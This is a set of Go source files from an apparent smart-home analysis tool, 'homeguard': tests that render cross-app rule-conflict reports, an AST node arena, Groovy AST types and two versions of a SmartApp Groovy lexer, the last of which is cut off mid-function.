package frontend

import (
	"strings"
	"testing"

	"homeguard/internal/detect"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
)

func comfortRule() *rule.Rule {
	return &rule.Rule{
		App: "ComfortTV", ID: "r1",
		Trigger: rule.Trigger{
			Subject: "tv1", Attribute: "switch", Capability: "switch",
			Constraint: rule.Cmp{
				Op: rule.OpEq,
				L:  rule.Var{Name: "tv1.switch", Kind: rule.VarEvent, Type: rule.TypeString},
				R:  rule.StrVal("on"),
			},
		},
		Condition: rule.Condition{
			Predicates: []rule.Constraint{
				rule.Cmp{
					Op: rule.OpGt,
					L:  rule.Var{Name: "tSensor.temperature", Kind: rule.VarDeviceAttr, Type: rule.TypeInt},
					R:  rule.Var{Name: "threshold1", Kind: rule.VarUserInput, Type: rule.TypeInt},
				},
			},
		},
		Action: rule.Action{Subject: "window1", Capability: "switch", Command: "on"},
	}
}

func closeRule() *rule.Rule {
	r := comfortRule()
	r.App = "ColdDefender"
	r.Action.Command = "off"
	return r
}

func TestDescribeRuleSentence(t *testing.T) {
	s := DescribeRule(comfortRule())
	for _, frag := range []string{"When", "tv1", "becomes on", "temperature", "window1", "on"} {
		if !strings.Contains(s, frag) {
			t.Errorf("sentence missing %q: %s", frag, s)
		}
	}
	if !strings.HasSuffix(s, ".") {
		t.Errorf("sentence should end with a period: %s", s)
	}
}

func TestDescribeDelayedAction(t *testing.T) {
	r := comfortRule()
	r.Action.When = 300
	r.Action.Period = 86400
	s := DescribeRule(r)
	if !strings.Contains(s, "after 300 seconds") || !strings.Contains(s, "every 86400 seconds") {
		t.Errorf("delays not rendered: %s", s)
	}
}

func TestDescribeScheduledTrigger(t *testing.T) {
	r := comfortRule()
	r.Trigger = rule.Trigger{Subject: "time", Attribute: "schedule"}
	s := DescribeRule(r)
	if !strings.Contains(s, "scheduled time") {
		t.Errorf("schedule trigger not rendered: %s", s)
	}
}

func TestDescribeThreatAllKinds(t *testing.T) {
	r1, r2 := comfortRule(), closeRule()
	for _, k := range detect.AllKinds {
		th := detect.Threat{Kind: k, R1: r1, R2: r2}
		s := DescribeThreat(th)
		if !strings.Contains(s, string(k)) {
			t.Errorf("kind tag missing in %q", s)
		}
		if !strings.Contains(s, "ComfortTV/r1") {
			t.Errorf("rule id missing in %q", s)
		}
		if len(s) < 40 {
			t.Errorf("explanation too short for %s: %q", k, s)
		}
	}
}

func TestWitnessRendered(t *testing.T) {
	th := detect.Threat{
		Kind: detect.ActuatorRace, R1: comfortRule(), R2: closeRule(),
		Witness: solver.Model{
			"dev-tv.switch":           {Enum: "on"},
			"dev-tSensor.temperature": {Int: 31},
		},
	}
	s := DescribeThreat(th)
	if !strings.Contains(s, "Example situation") || !strings.Contains(s, "dev-tv.switch = on") {
		t.Errorf("witness missing: %s", s)
	}
}

func TestDescribeChain(t *testing.T) {
	c := detect.Chain{
		Rules: []*rule.Rule{comfortRule(), closeRule(), comfortRule()},
		Kinds: []detect.Kind{detect.CovertTriggering, detect.EnablingCondition},
	}
	s := DescribeChain(c)
	for _, frag := range []string{"—CT→", "—EC→", "ComfortTV/r1", "chain"} {
		if !strings.Contains(s, frag) {
			t.Errorf("chain rendering missing %q: %s", frag, s)
		}
	}
}

func TestInstallReport(t *testing.T) {
	threats := []detect.Threat{{Kind: detect.ActuatorRace, R1: comfortRule(), R2: closeRule()}}
	rep := InstallReport("ColdDefender", []*rule.Rule{closeRule()}, threats)
	for _, frag := range []string{"HomeGuard", "ColdDefender", "This app defines", "threat", "⚠"} {
		if !strings.Contains(rep, frag) {
			t.Errorf("report missing %q:\n%s", frag, rep)
		}
	}
	clean := InstallReport("SafeApp", []*rule.Rule{comfortRule()}, nil)
	if !strings.Contains(clean, "No cross-app interference") {
		t.Errorf("clean report: %s", clean)
	}
}
