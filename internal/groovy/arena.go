package groovy

// Node arenas for the parser. A SmartApp parse allocates a few thousand
// small AST nodes; allocating each with new() costs one heap object (and
// one GC scan root) per node. The parser instead carves nodes out of
// per-type chunks: a chunk allocates a block of 64 nodes at a time and
// hands out pointers into it, so the allocator runs once per 64 nodes and
// the nodes of one script sit contiguously in memory. Pointers returned by
// alloc stay valid forever — a full block is abandoned to the AST (which
// references its nodes) and a fresh block started, never reallocated.
//
// Variable-length node fields (Call.Args, Block.Stmts, ...) come from slab
// copies: the parser accumulates children on a scratch stack and copies the
// finished slice into a shared backing slab, full-capped so a later append
// (e.g. attaching a trailing closure) reallocates instead of clobbering a
// neighbour.

// Arena blocks start small — sized per node type to a typical small
// SmartApp's usage, passed by each constructor — and quadruple up to a
// cap, so tiny parses don't pay for big empty blocks while large parses
// amortize to one allocation per 256 nodes.
const chunkMax = 256

// chunk is a bump allocator for nodes of one type.
type chunk[T any] struct {
	buf []T
}

// alloc returns a pointer to a zeroed T carved from the current block;
// first sizes the initial block.
func (c *chunk[T]) alloc(first int) *T {
	if len(c.buf) == cap(c.buf) {
		n := cap(c.buf) * 4
		if n == 0 {
			n = first
		} else if n > chunkMax {
			n = chunkMax
		}
		c.buf = make([]T, 0, n)
	}
	var zero T
	c.buf = append(c.buf, zero)
	return &c.buf[len(c.buf)-1]
}

// slab packs finished variable-length child slices into shared blocks.
// Blocks grow like chunk blocks: small first, quadrupling to a cap.
type slab[T any] struct {
	buf []T
}

const (
	slabFirst = 16
	slabMax   = 256
)

// seal copies src into the slab and returns the stored, full-capped slice
// (append on it reallocates, so callers may extend their slice safely).
// Empty input returns nil, matching append-from-nil semantics.
func (s *slab[T]) seal(src []T) []T {
	if len(src) == 0 {
		return nil
	}
	if len(s.buf)+len(src) > cap(s.buf) {
		n := cap(s.buf) * 4
		if n == 0 {
			n = slabFirst
		} else if n > slabMax {
			n = slabMax
		}
		if len(src) > n {
			n = len(src)
		}
		s.buf = make([]T, 0, n)
	}
	start := len(s.buf)
	s.buf = append(s.buf, src...)
	return s.buf[start:len(s.buf):len(s.buf)]
}

// nodeArena groups the per-type chunks of one parse.
type nodeArena struct {
	idents    chunk[Ident]
	strs      chunk[StrLit]
	nums      chunk[NumLit]
	bools     chunk[BoolLit]
	calls     chunk[Call]
	props     chunk[PropertyGet]
	binaries  chunk[Binary]
	exprStmts chunk[ExprStmt]
	blocks    chunk[Block]
	decls     chunk[DeclStmt]
	assigns   chunk[AssignStmt]
	gstrings  chunk[GStringLit]
	closures  chunk[ClosureExpr]
	ifs       chunk[IfStmt]
	returns   chunk[ReturnStmt]
	methods   chunk[MethodDecl]

	exprs   slab[Expr]
	stmts   slab[Stmt]
	entries slab[MapEntry]
	parts   slab[GStringPart]
	params  slab[Param]
}
