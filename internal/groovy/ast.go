package groovy

// Node is implemented by every AST node.
type Node interface {
	Position() Pos
}

// ---------- Expressions ----------

// Expr is implemented by expression nodes.
type Expr interface {
	Node
	exprNode()
}

// Ident is a bare identifier reference.
type Ident struct {
	Name string
	Pos_ Pos
}

// StrLit is a single-quoted (non-interpolated) string literal.
type StrLit struct {
	Value string
	Pos_  Pos
}

// GStringLit is a double-quoted string, possibly interpolated. Parts
// alternate between literal text and embedded expressions: a part with a
// nil Expr is literal text, otherwise Text is empty and Expr holds the
// interpolated expression.
type GStringLit struct {
	Parts []GStringPart
	Pos_  Pos
}

// GStringPart is one segment of a GString.
type GStringPart struct {
	Text string
	Expr Expr // nil for literal parts
}

// IsPlain reports whether the GString has no interpolation.
func (g *GStringLit) IsPlain() bool {
	for _, p := range g.Parts {
		if p.Expr != nil {
			return false
		}
	}
	return true
}

// PlainText returns the concatenation of the literal parts.
func (g *GStringLit) PlainText() string {
	var s string
	for _, p := range g.Parts {
		s += p.Text
	}
	return s
}

// NumLit is a numeric literal. IsInt distinguishes integral values.
type NumLit struct {
	Raw   string
	Int   int64
	Float float64
	IsInt bool
	Pos_  Pos
}

// BoolLit is true or false.
type BoolLit struct {
	Value bool
	Pos_  Pos
}

// NullLit is the null literal.
type NullLit struct {
	Pos_ Pos
}

// ListLit is a list literal [a, b, c].
type ListLit struct {
	Elems []Expr
	Pos_  Pos
}

// MapEntry is one key:value pair in a map literal.
type MapEntry struct {
	Key   Expr // StrLit for identifier keys (Groovy treats bare keys as strings)
	Value Expr
}

// MapLit is a map literal [k: v, ...]. The empty map is [:].
type MapLit struct {
	Entries []MapEntry
	Pos_    Pos
}

// RangeLit is a range literal lo..hi.
type RangeLit struct {
	Lo, Hi Expr
	Pos_   Pos
}

// PropertyGet is receiver.property (or receiver?.property when Safe).
type PropertyGet struct {
	Receiver Expr
	Name     string
	Safe     bool
	Pos_     Pos
}

// IndexGet is receiver[index].
type IndexGet struct {
	Receiver Expr
	Index    Expr
	Pos_     Pos
}

// Call is a method or function invocation. Receiver is nil for bare calls
// such as subscribe(...). Named arguments (title: "...") are collected
// into Named; positional arguments into Args. A trailing closure, if any,
// is appended to Args by the parser (Groovy semantics).
type Call struct {
	Receiver Expr // nil for implicit-this calls
	Method   string
	Args     []Expr
	Named    []MapEntry
	Safe     bool // receiver?.method(...)
	Pos_     Pos
}

// ClosureExpr is { params -> body } or { body } (implicit `it`).
type ClosureExpr struct {
	Params []Param
	Body   *Block
	Pos_   Pos
}

// Unary is a prefix unary expression (!, -, +).
type Unary struct {
	Op   Kind
	X    Expr
	Pos_ Pos
}

// Binary is a binary expression.
type Binary struct {
	Op   Kind
	L, R Expr
	Pos_ Pos
}

// Ternary is cond ? a : b.
type Ternary struct {
	Cond Expr
	Then Expr
	Else Expr
	Pos_ Pos
}

// ElvisExpr is a ?: b.
type ElvisExpr struct {
	Cond Expr
	Else Expr
	Pos_ Pos
}

// CastExpr is x as Type or new Type(args).
type NewExpr struct {
	Type string
	Args []Expr
	Pos_ Pos
}

func (*Ident) exprNode()       {}
func (*StrLit) exprNode()      {}
func (*GStringLit) exprNode()  {}
func (*NumLit) exprNode()      {}
func (*BoolLit) exprNode()     {}
func (*NullLit) exprNode()     {}
func (*ListLit) exprNode()     {}
func (*MapLit) exprNode()      {}
func (*RangeLit) exprNode()    {}
func (*PropertyGet) exprNode() {}
func (*IndexGet) exprNode()    {}
func (*Call) exprNode()        {}
func (*ClosureExpr) exprNode() {}
func (*Unary) exprNode()       {}
func (*Binary) exprNode()      {}
func (*Ternary) exprNode()     {}
func (*ElvisExpr) exprNode()   {}
func (*NewExpr) exprNode()     {}

// Position implementations.
func (e *Ident) Position() Pos       { return e.Pos_ }
func (e *StrLit) Position() Pos      { return e.Pos_ }
func (e *GStringLit) Position() Pos  { return e.Pos_ }
func (e *NumLit) Position() Pos      { return e.Pos_ }
func (e *BoolLit) Position() Pos     { return e.Pos_ }
func (e *NullLit) Position() Pos     { return e.Pos_ }
func (e *ListLit) Position() Pos     { return e.Pos_ }
func (e *MapLit) Position() Pos      { return e.Pos_ }
func (e *RangeLit) Position() Pos    { return e.Pos_ }
func (e *PropertyGet) Position() Pos { return e.Pos_ }
func (e *IndexGet) Position() Pos    { return e.Pos_ }
func (e *Call) Position() Pos        { return e.Pos_ }
func (e *ClosureExpr) Position() Pos { return e.Pos_ }
func (e *Unary) Position() Pos       { return e.Pos_ }
func (e *Binary) Position() Pos      { return e.Pos_ }
func (e *Ternary) Position() Pos     { return e.Pos_ }
func (e *ElvisExpr) Position() Pos   { return e.Pos_ }
func (e *NewExpr) Position() Pos     { return e.Pos_ }

// ---------- Statements ----------

// Stmt is implemented by statement nodes.
type Stmt interface {
	Node
	stmtNode()
}

// Block is a brace-delimited statement list.
type Block struct {
	Stmts []Stmt
	Pos_  Pos
}

// ExprStmt wraps an expression used as a statement.
type ExprStmt struct {
	X    Expr
	Pos_ Pos
}

// DeclStmt is `def x = expr` (Init may be nil). Multiple declarations per
// statement are split by the parser into separate DeclStmts.
type DeclStmt struct {
	Name string
	Init Expr
	Pos_ Pos
}

// AssignStmt is target = value (or op-assign). Target is an Ident,
// PropertyGet or IndexGet.
type AssignStmt struct {
	Target Expr
	Op     Kind // Assign, PlusAssign, ...
	Value  Expr
	Pos_   Pos
}

// IfStmt is if (cond) then [else else].
type IfStmt struct {
	Cond Expr
	Then *Block
	Else Stmt // *Block, *IfStmt, or nil
	Pos_ Pos
}

// SwitchStmt is switch (subject) { case v: ...; default: ... }.
type SwitchStmt struct {
	Subject Expr
	Cases   []SwitchCase
	Default *Block // nil when absent
	Pos_    Pos
}

// SwitchCase is one case arm.
type SwitchCase struct {
	Value Expr
	Body  *Block
}

// ReturnStmt is return [expr].
type ReturnStmt struct {
	Value Expr // nil for bare return
	Pos_  Pos
}

// ForStmt covers both C-style `for (init; cond; post)` and
// `for (x in iterable)` loops.
type ForStmt struct {
	// For-in form:
	Var      string
	Iterable Expr
	// C-style form:
	Init Stmt
	Cond Expr
	Post Stmt

	Body *Block
	Pos_ Pos
}

// IsForIn reports whether the loop is the for-in form.
func (f *ForStmt) IsForIn() bool { return f.Iterable != nil }

// WhileStmt is while (cond) body.
type WhileStmt struct {
	Cond Expr
	Body *Block
	Pos_ Pos
}

// BreakStmt is break.
type BreakStmt struct{ Pos_ Pos }

// ContinueStmt is continue.
type ContinueStmt struct{ Pos_ Pos }

// MethodDecl is `def name(params) { body }`.
type MethodDecl struct {
	Name   string
	Params []Param
	Body   *Block
	Pos_   Pos
}

// Param is a method or closure parameter, optionally with a default value.
type Param struct {
	Name    string
	Default Expr // nil when absent
}

func (*Block) stmtNode()        {}
func (*ExprStmt) stmtNode()     {}
func (*DeclStmt) stmtNode()     {}
func (*AssignStmt) stmtNode()   {}
func (*IfStmt) stmtNode()       {}
func (*SwitchStmt) stmtNode()   {}
func (*ReturnStmt) stmtNode()   {}
func (*ForStmt) stmtNode()      {}
func (*WhileStmt) stmtNode()    {}
func (*BreakStmt) stmtNode()    {}
func (*ContinueStmt) stmtNode() {}
func (*MethodDecl) stmtNode()   {}

func (s *Block) Position() Pos        { return s.Pos_ }
func (s *ExprStmt) Position() Pos     { return s.Pos_ }
func (s *DeclStmt) Position() Pos     { return s.Pos_ }
func (s *AssignStmt) Position() Pos   { return s.Pos_ }
func (s *IfStmt) Position() Pos       { return s.Pos_ }
func (s *SwitchStmt) Position() Pos   { return s.Pos_ }
func (s *ReturnStmt) Position() Pos   { return s.Pos_ }
func (s *ForStmt) Position() Pos      { return s.Pos_ }
func (s *WhileStmt) Position() Pos    { return s.Pos_ }
func (s *BreakStmt) Position() Pos    { return s.Pos_ }
func (s *ContinueStmt) Position() Pos { return s.Pos_ }
func (s *MethodDecl) Position() Pos   { return s.Pos_ }

// ---------- Script ----------

// Script is a parsed SmartApp source file.
type Script struct {
	Stmts   []Stmt                 // top-level statements in source order
	Methods map[string]*MethodDecl // user-defined methods by name
}

// Method returns the named user-defined method, or nil.
func (s *Script) Method(name string) *MethodDecl { return s.Methods[name] }

// TopLevelCalls returns every top-level bare call with the given method
// name (e.g. "input", "definition", "preferences").
func (s *Script) TopLevelCalls(name string) []*Call {
	var out []*Call
	var walk func(st Stmt)
	walk = func(st Stmt) {
		switch n := st.(type) {
		case *ExprStmt:
			if c, ok := n.X.(*Call); ok && c.Receiver == nil && c.Method == name {
				out = append(out, c)
			}
		case *Block:
			for _, s2 := range n.Stmts {
				walk(s2)
			}
		}
	}
	for _, st := range s.Stmts {
		walk(st)
	}
	return out
}
