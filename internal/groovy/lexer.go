package groovy

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// LexError describes a lexical error with its source position.
type LexError struct {
	Pos Pos
	Msg string
}

func (e *LexError) Error() string { return fmt.Sprintf("lex error at %s: %s", e.Pos, e.Msg) }

// Lexer converts Groovy source text into a token stream.
//
// Newline handling follows Groovy's statement rules closely enough for the
// SmartApp subset: NEWLINE tokens are emitted only where a statement could
// end. Inside parentheses or brackets, and immediately after tokens that
// cannot terminate an expression (operators, commas, dots, opening
// delimiters), newlines are suppressed.
type Lexer struct {
	src    string
	off    int
	line   int
	col    int
	parens int // depth of ( and [ nesting; newlines suppressed when > 0

	lastKind    Kind
	emittedAny  bool
	pendingErrs []error
}

// NewLexer returns a lexer over src.
func NewLexer(src string) *Lexer {
	return &Lexer{src: src, line: 1, col: 1, lastKind: NEWLINE}
}

// Tokenize lexes the entire input. It returns the token slice
// (EOF-terminated) and the first error encountered, if any.
func Tokenize(src string) ([]Token, error) {
	lx := NewLexer(src)
	var toks []Token
	for {
		t, err := lx.Next()
		if err != nil {
			return toks, err
		}
		toks = append(toks, t)
		if t.Kind == EOF {
			return toks, nil
		}
	}
}

func (lx *Lexer) peekByte() byte {
	if lx.off >= len(lx.src) {
		return 0
	}
	return lx.src[lx.off]
}

func (lx *Lexer) peekByteAt(n int) byte {
	if lx.off+n >= len(lx.src) {
		return 0
	}
	return lx.src[lx.off+n]
}

func (lx *Lexer) advance() byte {
	c := lx.src[lx.off]
	lx.off++
	if c == '\n' {
		lx.line++
		lx.col = 1
	} else {
		lx.col++
	}
	return c
}

func (lx *Lexer) pos() Pos { return Pos{Line: lx.line, Col: lx.col} }

// newlineSignificant reports whether a newline after the previously
// emitted token may terminate a statement.
func (lx *Lexer) newlineSignificant() bool {
	if lx.parens > 0 {
		return false
	}
	switch lx.lastKind {
	case IDENT, NUMBER, STRING, GSTRING, KwTrue, KwFalse, KwNull,
		KwReturn, KwBreak, KwContinue, RParen, RBracket, RBrace, Incr, Decr:
		return true
	}
	return false
}

// Next returns the next token.
func (lx *Lexer) Next() (Token, error) {
	for {
		// Skip horizontal whitespace; handle newlines and comments.
		for lx.off < len(lx.src) {
			c := lx.peekByte()
			if c == ' ' || c == '\t' || c == '\r' {
				lx.advance()
				continue
			}
			if c == '\\' && lx.peekByteAt(1) == '\n' {
				lx.advance()
				lx.advance()
				continue
			}
			if c == '/' && lx.peekByteAt(1) == '/' {
				for lx.off < len(lx.src) && lx.peekByte() != '\n' {
					lx.advance()
				}
				continue
			}
			if c == '/' && lx.peekByteAt(1) == '*' {
				p := lx.pos()
				lx.advance()
				lx.advance()
				closed := false
				for lx.off < len(lx.src) {
					if lx.peekByte() == '*' && lx.peekByteAt(1) == '/' {
						lx.advance()
						lx.advance()
						closed = true
						break
					}
					lx.advance()
				}
				if !closed {
					return Token{}, &LexError{Pos: p, Msg: "unterminated block comment"}
				}
				continue
			}
			break
		}
		if lx.off >= len(lx.src) {
			return lx.emit(Token{Kind: EOF, Pos: lx.pos()}), nil
		}
		if lx.peekByte() == '\n' {
			p := lx.pos()
			lx.advance()
			if lx.newlineSignificant() {
				return lx.emit(Token{Kind: NEWLINE, Pos: p}), nil
			}
			continue
		}
		return lx.lexToken()
	}
}

func (lx *Lexer) emit(t Token) Token {
	lx.lastKind = t.Kind
	lx.emittedAny = true
	return t
}

func (lx *Lexer) lexToken() (Token, error) {
	p := lx.pos()
	c := lx.peekByte()

	switch {
	case isIdentStart(rune(c)):
		return lx.lexIdent(p), nil
	case c >= '0' && c <= '9':
		return lx.lexNumber(p), nil
	case c == '\'':
		return lx.lexSingleString(p)
	case c == '"':
		return lx.lexDoubleString(p)
	}

	two := ""
	if lx.off+1 < len(lx.src) {
		two = lx.src[lx.off : lx.off+2]
	}
	three := ""
	if lx.off+2 < len(lx.src) {
		three = lx.src[lx.off : lx.off+3]
	}

	mk := func(k Kind, n int) (Token, error) {
		for i := 0; i < n; i++ {
			lx.advance()
		}
		switch k {
		case LParen, LBracket:
			lx.parens++
		case RParen, RBracket:
			if lx.parens > 0 {
				lx.parens--
			}
		}
		return lx.emit(Token{Kind: k, Pos: p}), nil
	}

	switch three {
	case "<=>":
		return mk(Compare, 3)
	}
	switch two {
	case "?.":
		return mk(SafeDot, 2)
	case "->":
		return mk(Arrow, 2)
	case "..":
		return mk(Range, 2)
	case "==":
		return mk(Eq, 2)
	case "!=":
		return mk(NotEq, 2)
	case "<=":
		return mk(LtEq, 2)
	case ">=":
		return mk(GtEq, 2)
	case "&&":
		return mk(AndAnd, 2)
	case "||":
		return mk(OrOr, 2)
	case "?:":
		return mk(Elvis, 2)
	case "++":
		return mk(Incr, 2)
	case "--":
		return mk(Decr, 2)
	case "**":
		return mk(Power, 2)
	case "+=":
		return mk(PlusAssign, 2)
	case "-=":
		return mk(MinusAssign, 2)
	case "*=":
		return mk(StarAssign, 2)
	case "/=":
		return mk(SlashAssign, 2)
	}

	switch c {
	case '(':
		return mk(LParen, 1)
	case ')':
		return mk(RParen, 1)
	case '{':
		return mk(LBrace, 1)
	case '}':
		return mk(RBrace, 1)
	case '[':
		return mk(LBracket, 1)
	case ']':
		return mk(RBracket, 1)
	case ',':
		return mk(Comma, 1)
	case ';':
		return mk(Semi, 1)
	case ':':
		return mk(Colon, 1)
	case '.':
		return mk(Dot, 1)
	case '=':
		return mk(Assign, 1)
	case '+':
		return mk(Plus, 1)
	case '-':
		return mk(Minus, 1)
	case '*':
		return mk(Star, 1)
	case '/':
		return mk(Slash, 1)
	case '%':
		return mk(Percent, 1)
	case '<':
		return mk(Lt, 1)
	case '>':
		return mk(Gt, 1)
	case '!':
		return mk(Not, 1)
	case '?':
		return mk(Question, 1)
	case '@':
		// Annotations (e.g. @Field) — lex the annotation name away.
		lx.advance()
		for lx.off < len(lx.src) && isIdentPart(rune(lx.peekByte())) {
			lx.advance()
		}
		return lx.Next()
	}
	return Token{}, &LexError{Pos: p, Msg: fmt.Sprintf("unexpected character %q", c)}
}

func isIdentStart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r)
}

func isIdentPart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r) || unicode.IsDigit(r)
}

func (lx *Lexer) lexIdent(p Pos) Token {
	start := lx.off
	for lx.off < len(lx.src) {
		r, sz := utf8.DecodeRuneInString(lx.src[lx.off:])
		if !isIdentPart(r) {
			break
		}
		for i := 0; i < sz; i++ {
			lx.advance()
		}
	}
	text := lx.src[start:lx.off]
	if k, ok := keywords[text]; ok {
		return lx.emit(Token{Kind: k, Text: text, Pos: p})
	}
	return lx.emit(Token{Kind: IDENT, Text: text, Pos: p})
}

func (lx *Lexer) lexNumber(p Pos) Token {
	start := lx.off
	for lx.off < len(lx.src) && isDigit(lx.peekByte()) {
		lx.advance()
	}
	// Decimal part; be careful not to consume a range operator "..".
	if lx.peekByte() == '.' && isDigit(lx.peekByteAt(1)) {
		lx.advance()
		for lx.off < len(lx.src) && isDigit(lx.peekByte()) {
			lx.advance()
		}
	}
	// Type suffixes (L, G, f, d, etc.) — consume silently.
	switch lx.peekByte() {
	case 'L', 'l', 'G', 'g', 'F', 'f', 'D', 'd', 'I', 'i':
		lx.advance()
	}
	return lx.emit(Token{Kind: NUMBER, Text: strings.TrimRight(lx.src[start:lx.off], "LlGgFfDdIi"), Pos: p})
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func (lx *Lexer) lexSingleString(p Pos) (Token, error) {
	lx.advance() // opening quote
	var sb strings.Builder
	for {
		if lx.off >= len(lx.src) {
			return Token{}, &LexError{Pos: p, Msg: "unterminated string literal"}
		}
		c := lx.advance()
		if c == '\'' {
			return lx.emit(Token{Kind: STRING, Text: sb.String(), Pos: p}), nil
		}
		if c == '\\' {
			if lx.off >= len(lx.src) {
				return Token{}, &LexError{Pos: p, Msg: "unterminated escape in string literal"}
			}
			sb.WriteByte(unescape(lx.advance()))
			continue
		}
		sb.WriteByte(c)
	}
}

// lexDoubleString lexes a double-quoted GString. The token text preserves
// ${...} interpolation markers verbatim; the parser splits them.
func (lx *Lexer) lexDoubleString(p Pos) (Token, error) {
	lx.advance() // opening quote
	var sb strings.Builder
	depth := 0 // ${ ... } nesting
	for {
		if lx.off >= len(lx.src) {
			return Token{}, &LexError{Pos: p, Msg: "unterminated string literal"}
		}
		c := lx.advance()
		if c == '"' && depth == 0 {
			return lx.emit(Token{Kind: GSTRING, Text: sb.String(), Pos: p}), nil
		}
		if c == '\\' && depth == 0 {
			if lx.off >= len(lx.src) {
				return Token{}, &LexError{Pos: p, Msg: "unterminated escape in string literal"}
			}
			n := lx.advance()
			if n == '$' {
				sb.WriteString("\\$") // keep escaped-$ distinguishable from interpolation
			} else {
				sb.WriteByte(unescape(n))
			}
			continue
		}
		if c == '$' && lx.peekByte() == '{' {
			depth++
			sb.WriteByte(c)
			sb.WriteByte(lx.advance())
			continue
		}
		if depth > 0 {
			if c == '{' {
				depth++
			} else if c == '}' {
				depth--
			}
		}
		sb.WriteByte(c)
	}
}

func unescape(c byte) byte {
	switch c {
	case 'n':
		return '\n'
	case 't':
		return '\t'
	case 'r':
		return '\r'
	case '0':
		return 0
	default:
		return c
	}
}
