package groovy

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// LexError describes a lexical error with its source position.
type LexError struct {
	Pos Pos
	Msg string
}

func (e *LexError) Error() string { return fmt.Sprintf("lex error at %s: %s", e.Pos, e.Msg) }

// Lexer converts Groovy source text into a token stream.
//
// Newline handling follows Groovy's statement rules closely enough for the
// SmartApp subset: NEWLINE tokens are emitted only where a statement could
// end. Inside parentheses or brackets, and immediately after tokens that
// cannot terminate an expression (operators, commas, dots, opening
// delimiters), newlines are suppressed.
//
// The scanner is byte-driven: it walks src by offset, tracking only the
// current line number and the offset of its first byte (column = offset −
// line start + 1), so positions cost two integer updates per newline
// instead of per byte. Identifier, keyword and escape-free string tokens
// are substrings of src — the common paths allocate nothing per token.
type Lexer struct {
	src       string
	off       int
	line      int
	lineStart int // offset of the current line's first byte
	parens    int // depth of ( and [ nesting; newlines suppressed when > 0

	lastKind Kind
}

// NewLexer returns a lexer over src.
func NewLexer(src string) *Lexer {
	return &Lexer{src: src, line: 1, lastKind: NEWLINE}
}

// Tokenize lexes the entire input. It returns the token slice
// (EOF-terminated) and the first error encountered, if any.
func Tokenize(src string) ([]Token, error) {
	// One token per ~5 bytes of source is a slight overestimate for real
	// SmartApps; a single allocation covers almost every script.
	return appendTokens(make([]Token, 0, len(src)/5+8), src)
}

// appendTokens lexes src into dst (reusing its capacity), for callers
// that recycle token buffers. The lexer lives on the caller's stack.
func appendTokens(dst []Token, src string) ([]Token, error) {
	if cap(dst) == 0 {
		dst = make([]Token, 0, len(src)/5+8)
	}
	lx := Lexer{src: src, line: 1, lastKind: NEWLINE}
	for {
		t, err := lx.Next()
		if err != nil {
			return dst, err
		}
		dst = append(dst, t)
		if t.Kind == EOF {
			return dst, nil
		}
	}
}

func (lx *Lexer) peekByteAt(n int) byte {
	if lx.off+n >= len(lx.src) {
		return 0
	}
	return lx.src[lx.off+n]
}

// markLine records a newline at offset i (the '\n' byte's position).
func (lx *Lexer) markLine(i int) {
	lx.line++
	lx.lineStart = i + 1
}

func (lx *Lexer) pos() Pos { return Pos{Line: int32(lx.line), Col: int32(lx.off - lx.lineStart + 1)} }

// newlineSignificant reports whether a newline after the previously
// emitted token may terminate a statement.
func (lx *Lexer) newlineSignificant() bool {
	if lx.parens > 0 {
		return false
	}
	switch lx.lastKind {
	case IDENT, NUMBER, STRING, GSTRING, KwTrue, KwFalse, KwNull,
		KwReturn, KwBreak, KwContinue, RParen, RBracket, RBrace, Incr, Decr:
		return true
	}
	return false
}

// Next returns the next token.
func (lx *Lexer) Next() (Token, error) {
	src := lx.src
	for {
		// Skip horizontal whitespace; handle newlines and comments.
		for lx.off < len(src) {
			c := src[lx.off]
			if c == ' ' || c == '\t' || c == '\r' {
				lx.off++
				continue
			}
			if c == '\\' && lx.peekByteAt(1) == '\n' {
				lx.markLine(lx.off + 1)
				lx.off += 2
				continue
			}
			if c == '/' && lx.peekByteAt(1) == '/' {
				for lx.off < len(src) && src[lx.off] != '\n' {
					lx.off++
				}
				continue
			}
			if c == '/' && lx.peekByteAt(1) == '*' {
				p := lx.pos()
				lx.off += 2
				closed := false
				for lx.off < len(src) {
					b := src[lx.off]
					if b == '*' && lx.peekByteAt(1) == '/' {
						lx.off += 2
						closed = true
						break
					}
					if b == '\n' {
						lx.markLine(lx.off)
					}
					lx.off++
				}
				if !closed {
					return Token{}, &LexError{Pos: p, Msg: "unterminated block comment"}
				}
				continue
			}
			break
		}
		if lx.off >= len(src) {
			return lx.emit(Token{Kind: EOF, Pos: lx.pos()}), nil
		}
		if src[lx.off] == '\n' {
			p := lx.pos()
			lx.markLine(lx.off)
			lx.off++
			if lx.newlineSignificant() {
				return lx.emit(Token{Kind: NEWLINE, Pos: p}), nil
			}
			continue
		}
		return lx.lexToken()
	}
}

func (lx *Lexer) emit(t Token) Token {
	lx.lastKind = t.Kind
	return t
}

func (lx *Lexer) lexToken() (Token, error) {
	p := lx.pos()
	c := lx.src[lx.off]

	switch {
	case c == '_' || c == '$' || (c|0x20) >= 'a' && (c|0x20) <= 'z' || c >= utf8.RuneSelf && isIdentStart(firstRune(lx.src[lx.off:])):
		return lx.lexIdent(p), nil
	case c >= '0' && c <= '9':
		return lx.lexNumber(p), nil
	case c == '\'':
		return lx.lexSingleString(p)
	case c == '"':
		return lx.lexDoubleString(p)
	}

	mk := func(k Kind, n int) (Token, error) {
		lx.off += n
		switch k {
		case LParen, LBracket:
			lx.parens++
		case RParen, RBracket:
			if lx.parens > 0 {
				lx.parens--
			}
		}
		return lx.emit(Token{Kind: k, Pos: p}), nil
	}

	c1 := lx.peekByteAt(1)
	switch c {
	case '(':
		return mk(LParen, 1)
	case ')':
		return mk(RParen, 1)
	case '{':
		return mk(LBrace, 1)
	case '}':
		return mk(RBrace, 1)
	case '[':
		return mk(LBracket, 1)
	case ']':
		return mk(RBracket, 1)
	case ',':
		return mk(Comma, 1)
	case ';':
		return mk(Semi, 1)
	case ':':
		return mk(Colon, 1)
	case '.':
		if c1 == '.' {
			return mk(Range, 2)
		}
		return mk(Dot, 1)
	case '=':
		if c1 == '=' {
			return mk(Eq, 2)
		}
		return mk(Assign, 1)
	case '+':
		switch c1 {
		case '+':
			return mk(Incr, 2)
		case '=':
			return mk(PlusAssign, 2)
		}
		return mk(Plus, 1)
	case '-':
		switch c1 {
		case '-':
